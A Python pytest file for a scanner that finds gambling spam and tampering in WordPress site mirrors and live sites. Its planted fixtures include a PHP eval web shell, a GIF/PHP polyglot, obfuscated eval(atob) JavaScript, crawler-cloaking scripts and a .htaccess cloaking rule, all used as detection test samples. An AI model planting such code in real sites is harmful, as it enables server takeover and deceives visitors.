"""Any site: a saved mirror of a WordPress that somebody got into, and a live one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from plugins.scanning.crawling import scan_live
from plugins.scanning.fetching import Door, FetchRefused
from plugins.scanning.run import scan
from plugins.scanning.site import scan_folder

HEAD = '<html><head><title>BKD Contoh</title><link rel="canonical" href="https://bkd.contoh.go.id/">'
MENU = '<ul class="sub-menu" style="display:none"><li><a href="/profil/">Profil</a></li></ul>'
CLEAN = {
    "index.html": f"{HEAD}<style>.modal{{display:none}}</style></head><body onload='init()'>{MENU}"
    '<a href="/berita/judi/">ASN dilarang bermain judi online</a> <a href="https://www.facebook.com/bkd">FB</a>'
    '<a href="https://wa.me/?text=Profil%20https%3A%2F%2Fbkd.contoh.go.id%2Fprofil%2F">WhatsApp</a>'
    '<a href="https://t.me/share/url?url=https%3A%2F%2Fbkd.contoh.go.id%2F">Telegram</a>'
    '<div class="modal"><a href="https://www.youtube.com/">Video</a></div>'
    '<script src="https://www.googletagmanager.com/gtag/js"></script><script>var a = navigator.userAgent;</script>'
    "<!-- cached by WP --></body></html>",
    "profil/index.html": "<html><body><p>Profil</p></body></html>",
    "berita/judi/index.html": "<html><p>Polisi menangkap bandar judi togel; pegawai dilarang ikut.</p>",
    "wp-includes/js/jquery.js": "(function(){window.jQuery=function(){return document.createElement('script')}})()",
    "wp-content/style.css": ".screen-reader-text{position:absolute;left:-9999px}",
    "robots.txt": "User-agent: *\nDisallow: /wp-admin/\n",
}
PLANTED = {
    "page that sells": ("slot/index.html", "<title>Slot Gacor Maxwin: daftar situs judi slot online terpercaya</title>"),
    "hidden links": ("index.html", HEAD + '<div style="position:absolute;left:-9999px"><a href="https://x.example/">promo</a></div>'),
    "hidden words": ("index.html", HEAD + "<p style='display:none'>judi slot</p>"),
    "link of such a name": ("index.html", HEAD + '<a href="https://raja88.example/">promo</a>'),
    "link to a chat": ("index.html", HEAD + '<a href="https://wa.me/6281234567890?text=daftar">promo</a>'),
    "link to a group": ("index.html", HEAD + '<a href="https://t.me/promo?share/url">promo</a>'),
    "sharing that sells": ("index.html", HEAD + '<a href="https://wa.me/?text=slot%20gacor%20maxwin">promo</a>'),
    "link to a cheap ending": ("index.html", HEAD + '<a href="https://promo.icu/">promo</a>'),
    "cloaking script": ("a.js", "if(/googlebot/i.test(navigator.userAgent)){document.write(x)}else{location.href=y}"),
    "obfuscated script": ("b.js", "var _0x1a2b=['x'];eval(atob(_0x1a2b[0]));location.href=_0x1a2b"),
    "redirect for visitors from a search": ("c.js", "if(document.referrer.indexOf('google')>0){window.location='/x'}"),
    "code for a server": ("wp-content/uploads/2024/x.php", "<?php @eval($_POST['a']);"),
    "code in a picture": ("wp-content/uploads/y.jpg", "GIF89a<?php system(1);?>"),
    "htaccess": (".htaccess", "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^$ /slot/ [L]"),
    "page that nothing leads to": ("arsip-lama/x.html", "<html><body>Laporan</body></html>"),
    "refresh": ("profil/index.html", '<meta http-equiv="refresh" content="0;url=https://x.example/">'),
    "base": ("profil/index.html", '<base href="https://x.example/">'),
    "other canonical": ("profil/index.html", '<link rel="canonical" href="https://slotgacor.example/">'),
    "words in a comment": ("profil/index.html", "<!-- <a href='https://x.icu/'>slot gacor maxwin</a> -->"),
    "old code page": ("profil/index.html", b"<html><meta charset=windows-1252><p>\x96 Situs slot gacor maxwin daftar sekarang</p>"),
    "sixteen bits": ("profil/index.html", "<p>Situs slot gacor maxwin, daftar sekarang</p>".encode("utf-16")),
}  # fmt: skip


def write(folder: Path, files: dict[str, str]) -> Path:
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, encoding="utf-8")
    return folder


def test_an_ordinary_site_has_no_finding(tmp_path: Path) -> None:
    found = scan_folder(write(tmp_path, CLEAN))

    assert [finding.tell() for finding in found.findings] == []
    assert found.own == ("bkd.contoh.go.id", "www.bkd.contoh.go.id")


@pytest.mark.parametrize(("path", "text"), PLANTED.values(), ids=PLANTED)
def test_what_was_planted_in_a_wordpress_is_found(tmp_path: Path, path: str, text: str | bytes) -> None:
    folder = write(tmp_path, CLEAN)
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_bytes(text.encode() if isinstance(text, str) else text)

    assert path in {finding.file for finding in scan_folder(folder).findings}


def test_strange_files_bring_nothing_down(tmp_path: Path) -> None:
    strange = [
        b"",
        b"\x00" * 5_000,
        b"<" * 50_000,
        b'<a "' * 20_000,
        b"<p>" * 30_000,
        b"\xff\xfe",
        b"{" * 9_000,
    ]
    endings = (
        "html",
        "xml",
        "json",
        "css",
        "js",
        "svg",
        "pdf",
        "docx",
        "png",
        "gz",
        "br",
        "php",
        "txt",
        "mp4",
    )
    for ending in endings:
        for number, data in enumerate(strange):
            (tmp_path / f"{number}.{ending}").write_bytes(data)

    assert scan_folder(tmp_path, workers=1).files == len(strange) * len(endings)


def test_a_live_site_is_read_as_its_links_lead(tmp_path: Path, serve_folder: object) -> None:
    folder = write(
        tmp_path, {"index.html": '<a href="/a/">a</a>', "a/index.html": "<p>slot gacor maxwin daftar</p>"}
    )

    found = scan_live(serve_folder(folder))  # type: ignore[operator]

    assert {finding.rule for finding in found.findings} == {"gambling"}
    assert {finding.file.rpartition(":")[2][5:] for finding in found.findings} <= {"/a/", "a/", "/"}


def test_a_public_name_that_resolves_to_this_machine_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    local = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", 80))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: local)

    with pytest.raises(FetchRefused, match=r"resolves to 127\.0\.0\.1, which is no public address"):
        Door("http://contoh.example/")


@pytest.mark.parametrize("url", ["ftp://a.example/", "http://", "http://a@b.example/", "http://[::1/"])
def test_what_is_no_address_of_a_site_is_refused(url: str) -> None:
    with pytest.raises(FetchRefused):
        Door(url)


def test_findings_are_told_for_machines_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write(tmp_path, {"index.html": "<p>slot gacor maxwin daftar</p>"})

    status = scan(str(folder), as_json=True)

    told = json.loads(capsys.readouterr().out)
    assert status == 1
    assert told["findings"][0]["file"] == "index.html"
    assert set(told["findings"][0]) == {"file", "line", "rule", "fault", "mend"}
